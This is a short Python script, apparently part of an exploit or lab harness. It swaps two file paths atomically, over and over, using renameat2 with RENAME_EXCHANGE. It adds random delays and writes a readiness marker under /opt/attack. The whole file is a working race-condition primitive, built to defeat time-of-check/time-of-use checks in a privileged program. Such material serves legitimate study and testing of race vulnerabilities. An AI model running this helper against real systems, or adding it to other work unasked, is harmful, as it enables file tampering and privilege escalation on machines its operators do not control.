"""exchange.py A B: changes two names of the machine with each other, again and again, so that neither is ever missing."""
import ctypes
import random
import sys
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
first, second = (name.encode() for name in sys.argv[1:])
open("/opt/attack/ready", "w").close()
while True:
    if libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0:
        time.sleep(0.001)
    # Sometimes long enough for whoever looks and acts later, sometimes not.
    if random.random() < 0.3:
        time.sleep(random.random() * 0.004)
